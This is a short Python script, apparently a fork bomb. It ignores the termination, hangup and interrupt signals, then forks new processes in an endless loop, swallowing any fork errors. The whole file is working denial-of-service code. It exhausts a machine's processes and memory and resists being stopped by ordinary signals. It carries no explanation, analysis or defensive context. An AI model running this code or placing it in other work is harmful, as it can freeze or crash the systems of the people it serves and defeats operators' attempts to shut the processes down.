# Makes processes that make processes, and do not end when they are asked to.
import os
import signal

for one in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(one, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
